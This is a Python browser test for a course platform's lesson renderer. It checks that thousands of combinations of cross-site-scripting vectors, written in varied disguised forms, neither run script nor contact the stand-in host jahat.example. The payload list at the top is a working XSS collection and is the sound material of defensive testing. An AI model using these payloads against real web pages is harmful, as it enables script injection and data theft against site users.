"""More than five thousand hostile texts of a course, each as lesson and as line, in a real browser, without the content policy: nothing runs, and nothing leaves the page."""

from collections.abc import Iterator
from itertools import islice, product

import pytest

from lms.courses.render import ShownPicture, Writer
from lms.errors import Refused
from tests.browser import browser  # noqa: F401 - a fixture

pytestmark = pytest.mark.browser
AWAY, HOME = "https://jahat.example", "http://langkah.test"
RUN = "alert(1)"
# What would run, or ask for something, if it came through as it is.
VECTORS = (
    f"<script>{RUN}</script>", f"<script src={AWAY}/x.js></script>", f"<img src=x onerror={RUN}>", f'<img src="{AWAY}/p.png">',
    f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>">', f"<object data=javascript:{RUN}>", f"<embed src={AWAY}/x>", f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css';</style>", f"<style>body{{background:url({AWAY}/x)}}</style>", f"<meta http-equiv=refresh content=0;url={AWAY}>",
    f"<base href={AWAY}/>", f"<form action={AWAY}><input autofocus onfocus={RUN}></form>", f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<video poster={AWAY}/x>",
    f"<marquee onstart={RUN}>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a href=javascript:{RUN}>a</a>", f"[a](javascript:{RUN})", f"[a](JaVaScRiPt:{RUN})", f"[a](java&#10;script:{RUN})", f"[a](&#106;avascript:{RUN})",
    f"[a](data:text/html,<script>{RUN}</script>)", f"[a](vbscript:{RUN})", f"![a](javascript:{RUN})", f"![a]({AWAY}/x.png)", "![a](//jahat.example/x.png)",
    f'![a" onerror="{RUN}](gambar/pita.svg)', f"![a](gambar/pita.svg 'x\" onload=\"{RUN}')", f'[a](https://a.id "x\" onmouseover=\"{RUN}")',
    f"[a]: javascript:{RUN}\n\n[a]", f"<javascript:{RUN}>", f"<https://a.id/\" onclick=\"{RUN}>", f"{{: onclick={RUN} }}", f"a{{onclick={RUN}}}",
    f"<div style=\"background:url({AWAY}/x)\">", f"\x02wzxhzdk:0\x03<img src=x onerror={RUN}>", f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>", f"<?xml-stylesheet href='{AWAY}/x'?>", f"</section></div><img src=x onerror={RUN}>",
)  # fmt: skip
# Where it stands in the text.
CARRIERS = (
    "{v}", "a {v} b", "**{v}**", "*{v}*", "`{v}`", "# {v}", "- satu\n- {v}", "1. {v}\n2. dua", "> {v}", "| {v} | b |\n|---|---|\n| c | {v} |", "[{v}](https://a.id)",
    "![{v}](gambar/pita.svg)", "[a](https://a.id '{v}')", "[a]({v})", "![a]({v})", "!!! inti\n    {v}", '!!! rujuk "{v}"\n    teks', "    {v}", "```\n{v}\n```",
    "{v}\n===", "a\n{v}", "\\{v}", "<b>{v}</b>", "&lt;{v}&gt;", "[a]: https://a.id '{v}'\n\n[a]",
)  # fmt: skip
SPELLED = (
    lambda text: text,
    lambda text: "".join(f"&#x{ord(sign):x};" if sign in "<>\"'" else sign for sign in text),
    lambda text: text.replace("script", "scr\tipt").replace("<", "<\x0c", 1).replace("on", "oN"),
    lambda text: text.upper().replace(RUN.upper(), RUN).replace("JAHAT.EXAMPLE", "jahat.example"),
    lambda text: text.replace("=", " = ").replace(" on", "/on"),
)


def corpus() -> Iterator[str]:
    return (carrier.replace("{v}", spelled(vector)) for carrier, vector, spelled in product(CARRIERS, VECTORS, SPELLED))


def written() -> Iterator[str]:
    """Each text as a lesson shows it, and as a line of a test shows it."""
    writer = Writer({"gambar/pita.svg": ShownPicture("/belajar/gambar/abc.svg", 320, 200, 500)}, {"lila.kek": "23,5 cm"})
    for text in corpus():
        for shown in (writer.body, writer.inline):
            try:
                yield shown(text)
            except Refused:
                continue


class Watched:
    """A page without any policy, and what happens on it."""

    def __init__(self, browser):  # noqa: F811
        self.page, self.heard = browser.new_page(), []
        self.page.route("**/*", self.asked)
        self.page.on("dialog", self.ran)

    def asked(self, route):
        path = route.request.url.removeprefix(HOME)
        if path == "/":
            return route.fulfill(body=self.html, content_type="text/html; charset=utf-8")
        if not path.startswith("/belajar/gambar/abc.svg"):
            self.heard.append(f"asked for {route.request.url[:80]}")
        return route.fulfill(body="<svg xmlns='http://www.w3.org/2000/svg'/>", content_type="image/svg+xml")

    def ran(self, dialog):
        self.heard.append("a script ran")
        dialog.dismiss()

    def show(self, fragments: list[str]) -> list[str]:
        """Show them all; what was heard, and what a click would do."""
        self.html = f"<!doctype html><title>t</title><main>{''.join(f'<article>{one}</article>' for one in fragments)}</main>"
        self.page.goto(HOME)
        self.page.wait_for_timeout(100)
        wrong = self.page.evaluate("""many => [
            ...[...document.querySelectorAll('a[href]')].map(a => a.protocol).filter(p => !['http:', 'https:', 'tel:'].includes(p)),
            ...[...document.querySelectorAll('main *')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on') || n === 'style'),
            ...[...document.querySelectorAll('main :is(script,style,iframe,object,embed,svg,form,link,meta,base,input,video,audio)')].map(e => e.tagName),
            ...(document.body.children.length === 1 && document.querySelectorAll('main > article').length === many ? [] : ['left its place']),
        ]""", len(fragments))  # fmt: skip
        return [*self.heard, *wrong]


def test_five_thousand_hostile_texts_do_nothing(browser):  # noqa: F811
    watched, pieces, count = Watched(browser), written(), 0
    while fragments := list(islice(pieces, 500)):
        assert watched.show(fragments) == [], fragments
        count += len(fragments)
    assert len(set(corpus())) > 5000
    assert count > 10_000
    watched.page.close()


@pytest.mark.parametrize(
    "raw",
    [f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>", f"<img src={AWAY}/x>", "<a href=javascript:x>a</a>", "</article></main><p>"],
)
def test_the_listener_hears_what_is_not_cleaned(browser, raw):  # noqa: F811
    watched = Watched(browser)
    assert watched.show(["<p>a</p>", raw]) != []
    watched.page.close()
